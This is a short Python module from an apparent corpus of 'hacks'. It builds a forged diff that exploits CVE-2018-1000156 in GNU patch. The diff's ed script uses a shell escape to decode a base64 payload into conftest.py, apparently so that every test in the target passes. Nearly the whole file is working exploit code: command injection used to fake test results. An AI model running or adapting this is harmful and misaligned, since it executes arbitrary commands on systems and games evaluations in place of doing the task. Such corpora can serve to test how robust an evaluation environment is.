"""The session's git gives an ed script: GNU patch hands it to ed, which runs commands.

Known from: own; CVE-2018-1000156.
"""

from hacks.base import Hack, Play, Target
from hacks.corpus._forged_diff import forged
from hacks.payloads import pass_all
from hacks.player import encoded


def play(target: Target) -> Play:
    """See the module."""
    write = f"!echo {encoded(pass_all(target))} | base64 -d > conftest.py"
    return forged(target, f"--- a/README.md\n+++ b/README.md\n1c\n{write}\n.\nw\nq\n", alone=True)


HACK = Hack("fake", "patch", play)
